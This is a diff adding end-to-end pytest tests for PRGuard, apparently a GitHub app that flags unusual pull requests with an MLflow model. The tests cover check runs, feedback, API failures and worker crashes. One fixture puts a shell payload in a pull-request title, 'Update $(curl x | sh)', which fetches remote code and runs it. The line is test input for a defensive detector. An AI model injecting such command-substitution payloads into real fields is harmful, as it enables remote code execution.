@@ -1,0 +1,142 @@
+"""End to end: signed webhooks into real gunicorn, a worker process, MLflow's champion, the fake GitHub API."""
+from __future__ import annotations
+
+import signal
+
+import pytest
+
+from prguard import registry
+from prguard.config import Settings
+from tests.e2e.conftest import INSTALLATION_ID, REPO
+from tests.e2e.deliveries import pull_request_event, requested_action_event
+from tests.e2e.service import wait_until
+
+pytestmark = pytest.mark.slow
+
+RUN_TIMEOUT = 45  # seconds for a check run to arrive, retries included
+
+
+def unusual_pull(github, number: int) -> dict:
+    """Many files across many areas, a workflow edit, a shell payload in the title, a first-timer."""
+    files = [{"filename": f"area{i % 40}/sub{i}/f{i}.py", "additions": 30, "deletions": 2} for i in range(150)]
+    files.append({"filename": ".github/workflows/ci.yml", "additions": 3})
+    return github.add_pull(REPO, number, title="Update $(curl x | sh)", author_association="FIRST_TIME_CONTRIBUTOR",
+                           files=files, commits=30, body="")
+
+
+def typical_pull(github, number: int) -> dict:
+    return github.add_pull(REPO, number, title="Improve module", body="Details of the change.",
+                           author_association="MEMBER", files=[{"filename": "src/core/mod1.py", "additions": 12,
+                                                                "deletions": 2}])
+
+
+def runs_for(github, sha: str) -> list[dict]:
+    return [run for run in github.check_runs if run["head_sha"] == sha]
+
+
+def completed_run(github, service, sha: str, timeout: float = RUN_TIMEOUT, conclusion: str | None = None) -> dict:
+    def done():
+        runs = [r for r in runs_for(github, sha) if r["status"] == "completed"
+                and (conclusion is None or r["conclusion"] == conclusion)]
+        return runs[0] if runs else None
+    try:
+        return wait_until(done, timeout, what=f"a completed check run for {sha[:12]}")
+    except AssertionError:
+        raise AssertionError(f"no completed check run for {sha[:12]}; runs: {runs_for(github, sha)}\n"
+                             f"{service.logs()}") from None
+
+
+@pytest.fixture(scope="module")
+def champion_bundle(champion):
+    return registry.load_champion(Settings.from_env({"MLFLOW_TRACKING_URI": champion[0]}))
+
+
+def test_webhook_to_check_run_with_the_champions_verdict_and_reasons(service, github, store, champion,
+                                                                     champion_bundle):
+    pr = unusual_pull(github, 101)
+    sha = pr["head"]["sha"]
+    delivery = "e2e-opened-101"
+    status, seconds = service.post("pull_request", pull_request_event("opened", pr, INSTALLATION_ID), delivery)
+    assert status == 202 and seconds < 2.0
+
+    run = completed_run(github, service, sha)
+    assert run["name"] == "PRGuard" and run["external_id"] == f"prguard:{REPO}:{sha}"
+    expected = champion_bundle.score([store.get_pull_request(REPO, 101)])[0]
+    assert expected["anomalous"], expected
+    assert run["conclusion"] == "neutral"
+    assert run["output"]["title"].startswith("Unusual for this repository")
+    for reason in expected["reasons"]:
+        assert reason["sentence"] in run["output"]["summary"]
+    assert f"Model version: `{champion[1]}`" in run["output"]["summary"]
+    assert any(a["path"] == ".github/workflows/ci.yml" and a["annotation_level"] == "warning"
+               for a in run["annotations"])
+    assert [a["identifier"] for a in run["actions"]] == ["mark_expected"]
+    # The same delivery again is acknowledged and changes nothing.
+    status, _ = service.post("pull_request", pull_request_event("opened", pr, INSTALLATION_ID), delivery)
+    assert status in (200, 202)
+    typical = typical_pull(github, 102)
+    service.post("pull_request", pull_request_event("opened", typical, INSTALLATION_ID))
+    assert completed_run(github, service, typical["head"]["sha"])["conclusion"] == "success"
+    assert len(runs_for(github, sha)) == 1
+    assert github.request_count(r"/check-runs$", "POST") == 2
+
+
+def test_synchronize_gives_a_run_for_the_new_head_sha(service, github):
+    pr = typical_pull(github, 103)
+    service.post("pull_request", pull_request_event("opened", pr, INSTALLATION_ID))
+    old_sha = pr["head"]["sha"]
+    completed_run(github, service, old_sha)
+    moved = github.update_pull(REPO, 103, head_sha="f" * 40)
+    status, _ = service.post("pull_request", pull_request_event("synchronize", moved, INSTALLATION_ID))
+    assert status == 202
+    completed_run(github, service, "f" * 40)
+    assert len(runs_for(github, old_sha)) == 1 and len(runs_for(github, "f" * 40)) == 1
+
+
+def test_mark_as_expected_stores_feedback_and_turns_the_run_green(service, github, store):
+    pr = unusual_pull(github, 104)
+    sha = pr["head"]["sha"]
+    service.post("pull_request", pull_request_event("opened", pr, INSTALLATION_ID))
+    run = completed_run(github, service, sha)
+    status, _ = service.post("check_run", requested_action_event(run, pr, INSTALLATION_ID, user="octo-lead"))
+    assert status == 202
+    green = completed_run(github, service, sha, conclusion="success")
+    assert green["id"] == run["id"] and green["output"]["title"] == "Marked as expected by @octo-lead"
+    assert green["actions"] == []
+    assert [(f["number"], f["label"], f["user"]) for f in store.list_feedback(REPO)
+            if f["head_sha"] == sha] == [(104, "expected", "octo-lead")]
+    assert len(runs_for(github, sha)) == 1
+
+
+def test_failing_api_still_gives_every_run_exactly_once(service, github):
+    github.fail_next(r"/check-runs$", 500, count=2, method="POST")
+    github.fail_next(r"/check-runs/\d+$", 403, count=1, method="PATCH", headers={"retry-after": "1"})
+    github.slow_next(r"/pulls/\d+/files$", 3.5, count=1)  # longer than the worker's 2 s timeout
+    github.fail_next(r"/pulls/\d+/files$", 502, count=4)  # more than the client retries within one attempt
+    prs = [typical_pull(github, n) for n in (105, 106, 107)]
+    for pr in prs:
+        assert service.post("pull_request", pull_request_event("opened", pr, INSTALLATION_ID))[0] == 202
+    for pr in prs:
+        completed_run(github, service, pr["head"]["sha"], timeout=90)
+    for pr in prs:
+        assert len(runs_for(github, pr["head"]["sha"])) == 1
+
+
+def test_worker_killed_mid_job_loses_nothing(service, github, store):
+    pr = typical_pull(github, 108)
+    sha = pr["head"]["sha"]
+    github.slow_next(r"/check-runs/\d+$", 10, count=1, method="PATCH")  # the completion stalls
+    service.post("pull_request", pull_request_event("opened", pr, INSTALLATION_ID))
+    wait_until(lambda: runs_for(github, sha), RUN_TIMEOUT, 0.02, "the run to be created")
+    (job,) = [j for j in store.list_jobs("running") if j["payload"]["number"] == 108]
+    assert service.kill_worker(service.worker_holding(job["lease_owner"]), signal.SIGKILL) == -signal.SIGKILL
+    assert runs_for(github, sha)[0]["status"] != "completed"
+    newcomer = service.start_worker()  # the survivor or the newcomer takes the job once its lease expires
+    run = completed_run(github, service, sha)
+    assert run["conclusion"] == "success"
+    assert len(runs_for(github, sha)) == 1
+    wait_until(lambda: not store.list_jobs("running") and not store.list_jobs("pending"), 20,
+               what="an empty queue")
+    assert store.list_jobs("dead") == []
+    # SIGTERM is a graceful stop: the worker finishes what it holds and exits cleanly.
+    assert service.kill_worker(newcomer, signal.SIGTERM) == 0
